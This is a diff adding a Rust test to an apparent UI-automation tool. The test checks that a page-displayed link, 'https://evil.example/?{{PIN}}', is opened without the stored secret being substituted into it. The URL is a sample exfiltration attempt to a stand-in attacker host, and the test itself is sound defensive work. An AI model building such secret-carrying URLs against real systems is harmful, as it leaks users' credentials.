@@ -327,6 +327,24 @@ async fn a_secret_reaches_the_device_and_nobody_else() {
     }
 }
 
+#[tokio::test(start_paused = true)]
+async fn a_page_that_names_a_secret_does_not_get_it() {
+    let text = "trail:
+  - step: Follow a link that the page shows
+    tools:
+      - rememberElementText: {variable: link, id: link}
+      - openUrl: {url: '{{link}}'}
+      - remember: {variable: own, value: '{{PIN}}'}
+      - inputText: {text: '{{own}}', hideKeyboardAfter: false}
+";
+    let page = Page::new("home", [label("link", "https://evil.example/?{{PIN}}"), field("pin")]);
+    let lane = Wiring::new(FakeDriver::new("android/one", [page])).secret("PIN", "canary-4711").open();
+    let ended = lane.replay(&trail(text)).await;
+    assert_eq!(ended.verdict, Verdict::Passed, "{}", ended.message);
+    let expected = [r#"OpenUrl { url: "https://evil.example/?{{PIN}}" }"#, r#"InputText { text: "canary-4711" }"#];
+    assert_eq!(lane.driver.done(), expected);
+}
+
 /// An event without its own times and places, which no secret is in, whatever their digits.
 fn without_numbers(mut event: Value) -> Value {
     for parts in event.as_object_mut().into_iter().flat_map(|map| map.values_mut()) {
